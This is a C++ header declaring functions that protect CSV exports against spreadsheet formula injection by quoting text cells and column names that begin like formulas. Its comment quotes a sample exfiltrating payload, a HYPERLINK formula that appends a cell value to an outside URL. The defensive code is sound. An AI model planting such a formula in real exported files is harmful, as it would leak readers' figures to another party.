#pragma once
// CSV formula injection (OWASP "CSV Injection"): a spreadsheet that opens a delivered CSV file
// evaluates a cell starting with '=', '+', '-', '@', tab or carriage return as a formula, so a
// value another party put into a dimension (=HYPERLINK("http://…?d="&B2), @SUM(…)) could send
// the reader's figures away. Such text cells, and such column names, are written with a leading
// single quote, which spreadsheets show as text. Numbers stay numbers: only columns whose values
// print as free text are touched. Parquet results carry types and are never touched.
#include <string>
#include <string_view>
#include <vector>

#include "engine/engine.h"

namespace cleanroom::engine {

// True when a spreadsheet would read `text` as a formula.
bool starts_like_formula(std::string_view text);

// `text`, with a leading single quote when it starts like a formula.
std::string neutralised_cell(std::string_view text);

// The SELECT to write as CSV in place of `select`: the same rows, the same columns in the same
// order, each text cell and column name that starts like a formula neutralised. `columns` are
// what `select` answers (describe()); `select` is any SELECT statement, so this works however
// the caller builds the query it writes.
std::string csv_safe_select(const std::string& select, const std::vector<ResultColumn>& columns);

}  // namespace cleanroom::engine
